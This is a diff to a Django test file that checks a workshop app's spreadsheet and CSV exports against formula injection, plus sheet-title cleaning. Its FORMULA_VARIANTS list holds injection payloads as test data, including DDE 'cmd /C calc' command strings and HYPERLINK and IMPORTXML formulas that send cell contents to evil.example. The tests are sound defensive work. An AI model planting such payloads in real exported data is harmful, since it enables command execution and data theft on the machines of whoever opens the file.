@@ -14,6 +14,7 @@ from datetime import date, datetime, timedelta
 from pathlib import Path
 from types import SimpleNamespace
 from unittest import mock
+from xml.etree import ElementTree
 
 import pytest
 from django.core.management import call_command
@@ -27,7 +28,7 @@ from facilitation.models import LiveState, Phase, Room, RoomMember, Round
 from reports import services, tasks
 from reports.contributions import COLUMN_KEYS, COLUMNS, contribution_count
 from reports.models import Category, CommentCategory, Export
-from reports.workbook import CATEGORY_COLUMN, build_workbook, cell, new_workbook, sheet_title
+from reports.workbook import CATEGORY_COLUMN, build_workbook, cell, clean_text, new_workbook, sheet_title
 from tests.conftest import require_service
 from tests.facilitation.conftest import guest_client, viewer_of
 from tests.facilitation.factories import CommentFactory
@@ -311,11 +312,13 @@ def test_sheet_titles_are_valid_unique_and_short():
         sheet_title("x" * 40, taken, "Case 5"),
         sheet_title("[]:*?/\\", taken, "Case 6"),
         sheet_title("History", taken, "Case 7"),
+        sheet_title("Kesä\x01seteli\x0b\x1f", taken, "Case 8"),
     ]
-    assert all(len(title) <= 31 and not re.search(r"[\[\]:*?/\\]", title) for title in titles)
+    assert all(len(title) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]", title) for title in titles)
     assert len({title.lower() for title in titles}) == len(titles)
     assert titles[1] == "Sama nimi" and titles[2] == "sama nimi (2)"
     assert titles[5] == "Case 6" and titles[6] == "History (2)"
+    assert titles[7] == "Kesäseteli"
 
 
 # --- formula injection ---------------------------------------------------------------------------------
@@ -737,3 +740,159 @@ def test_who_may_use_the_export_pages(
         assert response.status_code == 404
     else:
         assert response.status_code == 302 and response.url.startswith(reverse("account_login"))
+
+
+# --- formula injection: every variant in every text field that reaches an export --------------------------------
+FORMULA_VARIANTS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\r\n=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    " =1+1",
+    "   +1+1",
+    "\u3000=1+1",
+    "\xa0=1+1",
+    "\t\t@SUM(1)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+    "=1+1\n=2+2",
+    "\x0b=1+1",
+    "\x01=1+1",
+    "\x1f+1+1",
+]
+
+
+def _risky(value) -> bool:
+    """A text a spreadsheet could run: a formula start after whitespace and control characters."""
+    from workshops.importing import looks_like_formula
+
+    return isinstance(value, str) and looks_like_formula(re.sub(r"[\x00-\x1f\x7f]", " ", value))
+
+
+@pytest.fixture
+def formulas(data):
+    """Every variant in every text field that reaches the workbook or the CSV, stored as it is (no service trims)."""
+    from facilitation.models import FeedbackAnswer, FeedbackResponse, Idea, Prompt, SurveyQuestion
+    from facilitation.services import survey_ensure
+    from workshops.models import Case
+
+    workshop = data.workshop
+    workshop.title = '=HYPERLINK("http://evil.example")'
+    workshop.save(update_fields=["title"])
+    round_ = data.room.round
+    survey_ensure(workshop=workshop)
+    question = SurveyQuestion.objects.filter(workshop=workshop, kind="text").first()
+    question.text = "=1+1 kysymys"
+    question.save(update_fields=["text"])
+    ideas_phase = live_services.phase_create(
+        workshop=workshop, kind=Phase.Kind.IDEAS, title="@ideat", duration_minutes=10
+    )
+    for index, variant in enumerate(FORMULA_VARIANTS):
+        person = ParticipantFactory(
+            workshop=workshop,
+            name=variant,
+            organisation_name=variant,
+            department=variant,
+            first_joined_at=timezone.now(),
+        )
+        case = Case.objects.create(workshop=workshop, position=10 + index, title=variant)
+        phase = Phase.objects.create(
+            workshop=workshop, position=100 + index, kind=Phase.Kind.DISCUSSION, title=variant, case=case
+        )
+        prompt = Prompt.objects.create(phase=phase, position=1, text=variant)
+        comment = CommentFactory(
+            phase=phase, workshop=workshop, case=case, prompt=prompt, author_participant=person, text=variant
+        )
+        CommentFactory(
+            phase=phase, workshop=workshop, case=case, parent=comment, author_participant=person, text=variant
+        )
+        leader = ParticipantFactory(workshop=workshop, name=variant, role=Participant.Role.GROUP_LEADER)
+        room = Room.objects.create(round=round_, index=10 + index, case=case, leader=leader, summary=variant)
+        room.summary_updated_at = timezone.now()
+        room.save(update_fields=["summary_updated_at"])
+        CommentFactory(
+            phase=workshop.phases.get(kind=Phase.Kind.ROUNDS),
+            workshop=workshop,
+            case=case,
+            round=round_,
+            room=room,
+            author_participant=person,
+            text=variant,
+        )
+        category = Category.objects.create(workshop=workshop, name=f"{variant} {index}", description=variant)
+        CommentCategory.objects.create(comment=comment, category=category)
+        Idea.objects.create(
+            client_id=uuid.uuid4(),
+            workshop=workshop,
+            phase=ideas_phase,
+            author_participant=person,
+            text=variant,
+            language="fi",
+        )
+        response = FeedbackResponse.objects.create(workshop=workshop, language="fi", submitted_on=date.today())
+        FeedbackAnswer.objects.create(response=response, question=question, question_text=question.text, text=variant)
+    return workshop
+
+
+# Where each variant must show up in the main sheet and the CSV (one row per variant at least).
+FORMULA_COLUMNS = ["workshop", "phase", "case", "prompt", "leader", "author", "organisation", "department", "text"]
+
+
+def test_every_formula_variant_in_every_field_stays_text_in_the_workbook(formulas, tmp_path):
+    path, _rows = built(formulas, tmp_path)
+    for name, xml in sheet_xml(path).items():
+        assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
+        ElementTree.fromstring(xml)  # well-formed: a control character in a sheet name once broke the file
+    book = load_workbook(path)
+    risky = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for made in row:
+                if _risky(made.value):
+                    risky += 1
+                    assert made.data_type == "s" and made.quotePrefix, (sheet.title, made.coordinate, made.value)
+    # every variant reached the cells it was written for (as a cell can hold it: one kind of line break,
+    # no control characters), so the check above saw each of them
+    expected = {clean_text(variant) for variant in FORMULA_VARIANTS}
+    main = records(book["All contributions"])
+    for key in FORMULA_COLUMNS[1:]:
+        assert expected <= {row[key] for row in main}, key
+    assert {row["category"] for row in main} >= {clean_text(f"{v} {i}") for i, v in enumerate(FORMULA_VARIANTS)}
+    ideas = {c.value for row in book["Ideas"].iter_rows() for c in row}
+    feedback = {c.value for row in book["Feedback"].iter_rows() for c in row}
+    categories = {c.value for row in book["Categories"].iter_rows() for c in row}
+    participation = {c.value for row in book["Participation"].iter_rows() for c in row}
+    for found in (ideas, feedback, categories, participation):
+        assert expected <= found
+    assert "=1+1 kysymys" in feedback  # a question's text is a header
+    assert risky >= 10 * len(FORMULA_VARIANTS)
+
+
+def test_every_formula_variant_in_every_field_is_prefixed_in_the_csv(formulas, facilitator_client):
+    facilitator_client.cookies["kehittamo_language"] = "en"
+    response = facilitator_client.get(reverse("reports:export_csv", args=[formulas.pk]))
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = [
+        dict(zip(COLUMN_KEYS, row, strict=True)) for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")
+    ]
+    for row in rows[1:]:
+        for key, value in row.items():
+            assert not _risky(value), (key, value)
+    for key in FORMULA_COLUMNS:
+        values = {row[key] for row in rows[1:]}
+        for variant in FORMULA_VARIANTS if key != "workshop" else [formulas.title]:
+            assert "'" + variant.replace("\r\n", "\n").replace("\r", "\n") in values, (key, variant)
